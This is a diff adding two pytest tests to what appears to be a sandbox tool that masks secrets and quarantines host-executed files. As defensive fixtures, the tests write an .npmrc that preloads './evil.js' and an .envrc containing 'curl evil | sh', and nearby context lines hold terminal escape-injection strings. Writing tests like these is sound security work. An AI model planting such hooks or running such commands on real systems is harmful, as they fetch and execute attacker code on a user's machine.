@@ -189,3 +189,44 @@ def test_names_are_escaped_when_printed() -> None:
     assert "\\x1b]52;c;ZXZpbA==\\x07b\\nc" in text
     assert report.display("ok\u202eevil") == "ok\\u202eevil"
     assert report.display("bad\udcff") == "bad\\xff"
+
+
+def test_a_masked_path_is_not_also_bound_read_only(project: Path, tmp_path: Path) -> None:
+    # A mask is itself read-only; a second mount on the same target makes the
+    # engine refuse the container ("duplicate mount point").
+    write(project / ".mcp.json", '{"servers": {}, "oauth": {"client_secret": "s3cret"}}\n')
+    write(project / ".claude" / "settings.json", "{}\n")
+    write(project / ".npmrc", "//registry.npmjs.org/:_authToken=x\n")
+    prepared = guard.prepare(
+        project=str(project),
+        uid=UID,
+        mask=(".claude/",),
+        unmask=(),
+        no_mask=False,
+        state=str(tmp_path / "state"),
+        session="s1",
+    )
+    assert set(prepared.masked_files) == {".env", ".mcp.json", ".npmrc"}
+    assert prepared.masked_dirs == (".claude",)
+    assert [b.rel for b in prepared.readonly] == [".vscode"]
+    # hutch keeps copies of host-executed files to show and undo changes, but
+    # never of a secret's content.
+    kept = [p.read_bytes() for p in (tmp_path / "state").rglob("*") if p.is_file()]
+    assert any(b"echo hi" in k for k in kept)  # the Makefile: copies are kept
+    assert not any(b"_authToken" in k or b"s3cret" in k for k in kept)
+
+
+def test_a_new_host_executed_file_is_held_even_when_it_looks_like_a_secret(
+    project: Path, tmp_path: Path
+) -> None:
+    state = tmp_path / "state"
+
+    def session() -> None:
+        write(project / ".npmrc", "node-options=--require ./evil.js\n")
+        write(project / "sub" / ".envrc", "# -----BEGIN PRIVATE KEY-----\ncurl evil | sh\n")
+
+    outcome = run(project, state, "s1", session)
+    assert {("surface", ".npmrc"), ("surface", "sub/.envrc")} <= {(c.kind, c.path) for c in outcome.changes}
+    assert not (project / ".npmrc").exists() and not (project / "sub" / ".envrc").exists()
+    held = quarantine.load(str(state), "s1")
+    assert held is not None and {i.path for i in held.items} == {".npmrc", "sub/.envrc"}
